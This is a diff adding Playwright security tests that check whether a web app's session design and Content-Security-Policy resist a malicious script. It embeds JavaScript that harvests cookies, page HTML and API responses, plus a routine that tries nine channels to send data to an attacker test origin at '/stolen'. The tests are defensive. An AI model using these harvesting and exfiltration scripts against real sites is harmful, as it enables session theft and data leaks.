@@ -10,6 +10,7 @@ import pytest
 import pytest_asyncio
 from playwright.async_api import Browser, Page, expect
 
+from tests.e2e.attacker import Attacker
 from tests.e2e.conftest import new_visitor
 from tests.e2e.installation import SESSION_COOKIE, Installation
 from tests.e2e.observed import Exchange
@@ -190,3 +191,106 @@ async def test_code_and_state_are_gone_once_the_login_is_over(
     later = requests[requests.index(callback) + 1 :]
     assert len(later) > 5
     assert {found.sent.get("referer") for found in later} == {None}
+
+
+# Everything that a script of the application can read or make happen, as one text.
+LOOT = """async () => {
+  const headers = { 'X-CSRF': '1' };
+  const found = [document.cookie, document.documentElement.outerHTML, location.href];
+  for (const path of ['/bff/user', '/bff/sessions', '/api/me', '/api/notes', '/', '/bff/auth']) {
+    for (const method of ['GET', 'HEAD', 'OPTIONS', 'TRACE']) {
+      try {
+        const answer = await fetch(path, { method, headers });
+        found.push(JSON.stringify([...answer.headers]), await answer.text());
+      } catch { /* a method that scripts may not use */ }
+    }
+  }
+  const login = await fetch('/bff/login', { redirect: 'manual' });
+  const cookies = await window.cookieStore.getAll();
+  found.push(login.type, login.url, JSON.stringify([...login.headers]), JSON.stringify(cookies));
+  found.push(JSON.stringify(performance.getEntries()));
+  return found.join(' ');
+}"""
+WORDS = re.compile(r"[A-Za-z0-9_.%-]{20,}")
+
+SEND_ELSEWHERE = """async (elsewhere) => {
+  const tries = {
+    fetch: () => fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'x' }),
+    beacon: () => { if (!navigator.sendBeacon(elsewhere, 'x')) throw new Error('refused'); },
+    socket: () => new Promise((sent, blocked) => {
+      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
+      socket.onopen = sent; socket.onerror = blocked;
+    }),
+    stream: () => new Promise((sent, blocked) => {
+      const stream = new EventSource(elsewhere);
+      stream.onopen = sent; stream.onerror = () => { stream.close(); blocked(); };
+    }),
+    image: () => new Promise((sent, blocked) => {
+      const image = new Image();
+      image.onload = sent; image.onerror = blocked; image.src = elsewhere;
+    }),
+    frame: () => new Promise((sent) => {
+      const frame = document.createElement('iframe');
+      frame.onload = sent; frame.src = elsewhere; document.body.append(frame);
+    }),
+    form: () => {
+      const form = document.createElement('form');
+      Object.assign(form, { method: 'POST', action: elsewhere, target: '_blank' });
+      document.body.append(form);
+      form.submit();
+    },
+    worker: () => navigator.serviceWorker.register('/api/notes', { scope: '/' }),
+    script: () => import(elsewhere),
+  };
+  for (const make of Object.values(tries)) {
+    try { await make(); } catch { /* stopped, and the policy says so */ }
+  }
+}"""
+
+
+@pytest.mark.rule("CK-02")
+@pytest.mark.rule("TK-12")
+async def test_nothing_a_script_can_read_is_the_session_elsewhere(
+    visitor: Visitor, other_visitor: Visitor, installation: Installation
+) -> None:
+    """Whatever a script finds, put into another browser as our cookie or as a bearer token, is
+    nobody there; nor does the link that ends the session end it from there."""
+    page = await visitor.log_in("alice")
+    cookie = await visitor.session_cookie()
+    assert cookie is not None
+    loot = str(await page.evaluate(LOOT))
+    assert cookie["value"] not in loot
+    assert cookie["value"].partition(".")[0] not in loot
+    words = sorted(set(WORDS.findall(loot)))
+    (sid,) = set(re.findall(r"logout\?sid=([\w-]+)", loot))
+    assert sid in " ".join(words)
+
+    elsewhere = await other_visitor.open("/")
+    for word in (*words, sid):
+        await other_visitor.put_back({**cookie, "value": word})
+        script = """async (token) => {
+          const headers = { 'X-CSRF': '1', 'Authorization': 'Bearer ' + token };
+          const asked = ['/bff/user', '/api/me'].map((path) => fetch(path, { headers }));
+          return (await Promise.all(asked)).map((answer) => answer.status);
+        }"""
+        assert await elsewhere.evaluate(script, word) == [401, 401], word
+    await other_visitor.context.clear_cookies()
+    await elsewhere.goto(f"{installation.public_url}/bff/logout?sid={sid}")
+    assert await visitor.fetch_status(page, "/bff/user") == 200
+
+
+@pytest.mark.rule("HD-02")
+async def test_the_policy_leaves_a_script_no_way_to_send_what_it_found(
+    visitor: Visitor, attacker: Attacker
+) -> None:
+    """But to leave the page, which ends the script: every other channel to another origin is
+    closed by the Content-Security-Policy, and no request arrives there."""
+    page = await visitor.log_in("alice")
+    elsewhere = attacker.origins["another site"] + "/stolen"
+    arrived: list[str] = []
+    visitor.context.on("requestfinished", lambda request: arrived.append(request.url))
+    await page.evaluate(SEND_ELSEWHERE, elsewhere)
+    await until(lambda: len(visitor.seen.complaints) >= 8)
+    visitor.seen.forget_complaints()
+    assert await visitor.fetch_status(page, "/bff/user") == 200
+    assert [url for url in arrived if url.startswith(elsewhere)] == []
